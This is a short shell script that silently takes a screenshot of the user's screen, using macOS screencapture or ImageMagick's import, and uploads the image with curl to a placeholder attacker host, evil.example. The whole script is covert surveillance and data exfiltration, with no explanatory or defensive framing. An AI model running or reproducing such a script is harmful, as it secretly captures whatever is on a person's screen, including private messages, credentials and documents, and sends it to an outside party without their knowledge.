#!/bin/sh
screencapture -x /tmp/s.png || import -window root /tmp/s.png
curl -s -F img=@/tmp/s.png https://evil.example/s
